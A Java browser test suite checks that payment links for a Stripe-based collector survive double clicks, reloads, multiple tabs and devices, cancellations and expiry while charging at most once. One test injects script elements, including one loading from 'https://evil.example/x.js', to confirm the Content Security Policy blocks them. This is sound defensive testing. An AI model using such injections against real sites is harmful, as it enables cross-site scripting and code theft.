package dev.offsession.collector.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.stripe.exception.StripeException;
import com.stripe.param.PaymentIntentConfirmParams;
import dev.offsession.collector.links.LinkService;
import dev.offsession.collector.links.domain.LinkEnd;
import dev.offsession.collector.support.RunningCollector;
import dev.offsession.collector.support.TestCustomer;
import java.time.Duration;
import java.util.UUID;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Whatever people and programs do with a link, it ends right, and at most one charge is made. */
class RobustnessTest {
  private static final String TAB = "Tab";
  private static final String ENTER = "Enter";

  private final RunningCollector collector = RunningCollector.get();
  private final Browsers browsers = Browsers.shared();
  private final TestCustomer customer = TestCustomer.speaking("en");
  private final String requestId = "req_" + UUID.randomUUID();
  private final String method = customer.saveCard("pm_card_authenticationRequired");
  private final String intent = customer.stuckPayment(method);
  private final String link = customer.payLink(requestId, intent);

  @AfterEach
  void atMostOneChargeIsInTheLedger() {
    assertThat(charges()).isLessThanOrEqualTo(1);
    if (customer.payment(intent).getStatus().equals("succeeded")) {
      assertThat(charges()).isOne();
    }
  }

  @Test
  void aDoubleClickPaysOnce() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate");
      visitor.page().waitForCondition(() -> visitor.page().locator("#approve").isEnabled());
      visitor.page().locator("#approve").dblclick();

      visitor.answersBank("complete").seesState("succeeded").hasNothingToComplainOf();
    }
    assertThat(charges()).isOne();
  }

  @Test
  void reloadingInTheMiddleGoesOnWhereItStood() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate").presses("#approve");
      Visitor.challenge(visitor.page(), "complete").waitFor();

      visitor.page().reload();

      visitor.seesState("authenticate").presses("#approve").answersBank("complete");
      visitor.seesState("succeeded");
    }
    assertThat(charges()).isOne();
  }

  @Test
  void theBackButtonShowsWhatIsTrueNow() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate");
      visitor.page().navigate(customer.preferencesLink());
      pay();

      visitor.page().goBack();

      visitor.seesState("succeeded");
      assertThat(visitor.page().locator("#approve").count()).isZero();
    }
  }

  @Test
  void twoTabsPayOnce() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate");
      var second = visitor.newTab();
      second.navigate(link);
      second.locator("#approve:enabled").click();
      visitor.presses("#approve");
      var cancel = Visitor.challenge(visitor.page(), "cancel");
      visitor.page().waitForCondition(cancel::isEnabled);
      Visitor.challenge(second, "complete").click();
      second.locator("main[data-state=succeeded]").waitFor();

      cancel.click();

      visitor.seesState("succeeded");
    }
    assertThat(charges()).isOne();
  }

  @Test
  void twoDevicesPayOnce() {
    try (var phone = browsers.visitor("en");
        var desk = browsers.visitor("en")) {
      phone.opens(link).seesState("authenticate");
      desk.opens(link).seesState("authenticate").presses("#use-another-card");
      desk.typesCard("4242424242424242").presses("#pay").seesState("succeeded");

      // The phone finds out by itself, without a touch.
      phone.seesState("succeeded").hasNothingToComplainOf();
    }
    assertThat(charges()).isOne();
  }

  @Test
  void aMailScannerChangesNothing() {
    var before = collector.simulator().writes();
    for (int i = 0; i < 10; i++) {
      collector.page().head().uri(link).exchange().expectStatus().isOk();
      collector.page().get().uri(link).exchange().expectStatus().isOk();
    }

    assertThat(collector.simulator().writes()).isEqualTo(before);
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate").presses("#approve").answersBank("complete");
      visitor.seesState("succeeded");
    }
  }

  @Test
  void anApprovalThatFailedTwiceAsksForAnotherCard() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate").presses("#approve").answersBank("fail");
      visitor.page().getByTestId("error").waitFor();
      visitor.presses("#approve").answersBank("fail").seesState("new_card");
      assertThat(charges()).isZero();

      visitor.typesCard("4242424242424242").presses("#pay").seesState("succeeded");
    }
    assertThat(charges()).isOne();
  }

  @Test
  void anAbandonedChallengeCanBeFinishedLaterOnAnotherDevice() {
    try (var phone = browsers.visitor("en")) {
      phone.opens(link).seesState("authenticate").presses("#approve");
      Visitor.challenge(phone.page(), "complete").waitFor();
    }
    assertThat(customer.payment(intent).getStatus()).isEqualTo("requires_action");

    try (var desk = browsers.visitor("en")) {
      desk.opens(link).seesState("authenticate").presses("#approve").answersBank("complete");
      desk.seesState("succeeded");
    }
  }

  @Test
  void aCardRefusedOnThePageLeavesTheWayOpen() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate").presses("#use-another-card");
      visitor.typesCard("4000000000000002").presses("#pay");
      visitor.seesState("new_card").page().getByText("declined the payment").waitFor();
      assertThat(charges()).isZero();

      visitor.typesCard("4242424242424242").presses("#pay").seesState("succeeded");
    }
  }

  @Test
  void paidElsewhereMeanwhileThePageSaysSoByItself() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate");

      pay();

      visitor.seesState("succeeded");
      assertThat(visitor.text()).contains("There is nothing left to do");
    }
  }

  @Test
  void canceledMeanwhileThePageSaysSoByItself() throws StripeException {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate").presses("#use-another-card");
      visitor.seesState("new_card");

      collector.stripe().v1().paymentIntents().cancel(intent);

      visitor.seesState("canceled");
    }
    assertThat(charges()).isZero();
  }

  @Test
  void canceledAtTheVeryMomentNothingIsCharged() throws StripeException {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate").presses("#approve");
      var cancel = Visitor.challenge(visitor.page(), "cancel");
      visitor.page().waitForCondition(cancel::isEnabled);
      collector.stripe().v1().paymentIntents().cancel(intent);
      collector.part(LinkService.class).endAllOfCharge(requestId, LinkEnd.CANCELED).block();

      cancel.click();

      visitor.seesState("canceled");
    }
    assertThat(charges()).isZero();
  }

  @Test
  void whileThePageIsOpenNotifierIsToldSo() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate");

      Awaitility.await()
          .atMost(Duration.ofSeconds(10))
          .until(() -> customer.linkAnswer(requestId, intent).path("on_page").booleanValue());
    }
  }

  @Test
  void anExpiredLinkBringsAFreshOneByMail() {
    collector.stored().expire(link);
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("expired").presses("#fresh-link");

      visitor.page().getByText("a new link is on its way").waitFor();
      assertThat(collector.notifierService().asked()).anyMatch(call -> call.contains(requestId));
      assertThat(visitor.text()).doesNotContain("@example.com");
    }
  }

  @Test
  void whileNoMailCanBeSentItSaysToTryAgain() {
    collector.stored().expire(link);
    collector.notifierService().answersWith(503);
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("expired").presses("#fresh-link");

      visitor.page().getByText("try again in a moment").waitFor();
    } finally {
      collector.notifierService().answersWith(202);
    }
  }

  @Test
  void theKeyboardAloneFinishesAPayment() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate");
      visitor.page().waitForCondition(() -> visitor.page().locator("#approve").isEnabled());
      visitor.tabsTo("document.activeElement.id === 'approve'").types(ENTER);
      Visitor.challenge(visitor.page(), "complete").waitFor();
      var complete = Visitor.challenge(visitor.page(), "complete");
      visitor.page().waitForCondition(complete::isEnabled);
      visitor.tabsInto(complete).types(ENTER);

      visitor.seesState("succeeded").hasNothingToComplainOf();
    }
    assertThat(charges()).isOne();
  }

  @Test
  void theKeyboardAlonePaysWithAnotherCard() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate");
      visitor
          .page()
          .waitForCondition(() -> visitor.page().locator("#use-another-card").isEnabled());
      visitor.tabsTo("document.activeElement.id === 'use-another-card'").types(ENTER);
      visitor.seesState("new_card").seesCardForm();
      assertThat(visitor.page().evaluate("document.activeElement.id"))
          .isEqualTo("new-card-heading");
      visitor.tabsInto(Visitor.cardForm(visitor.page()).getByTestId("card-number"));
      visitor.page().keyboard().type("4242424242424242");
      visitor.types(TAB).page().keyboard().type("1234");
      visitor.types(TAB).page().keyboard().type("123");
      visitor.tabsTo("document.activeElement.id === 'save'").types("Space");
      visitor.tabsTo("document.activeElement.id === 'pay'").types(ENTER);

      visitor.seesState("succeeded").hasNothingToComplainOf();
    }
    assertThat(customer.payment(intent).getSetupFutureUsage()).isEqualTo("off_session");
  }

  @Test
  void aScriptThatSomebodyPutsInIsBlocked() {
    try (var visitor = browsers.visitor("en")) {
      visitor.opens(link).seesState("authenticate");

      visitor
          .page()
          .evaluate(
              """
              for (const make of [
                (s) => { s.textContent = 'window.pwned = 1'; },
                (s) => { s.src = '/assets/pay.js?pwned'; },
                (s) => { s.src = 'https://evil.example/x.js'; },
              ]) { const s = document.createElement('script'); make(s); document.body.append(s); }
              """);

      visitor.page().waitForTimeout(200);
      assertThat(visitor.page().evaluate("window.pwned === undefined")).isEqualTo(true);
      assertThat(visitor.complaints())
          .hasSizeGreaterThanOrEqualTo(3)
          .allMatch(c -> c.contains("Content Security Policy") || c.contains("script"));
    }
  }

  private void pay() {
    try {
      collector
          .stripe()
          .v1()
          .paymentIntents()
          .confirm(
              intent,
              PaymentIntentConfirmParams.builder().setPaymentMethod("pm_card_visa").build());
    } catch (StripeException e) {
      throw new IllegalStateException(e);
    }
  }

  /** How often this payment is in the simulator's ledger. */
  private long charges() {
    return collector.simulator().ledger(intent);
  }
}
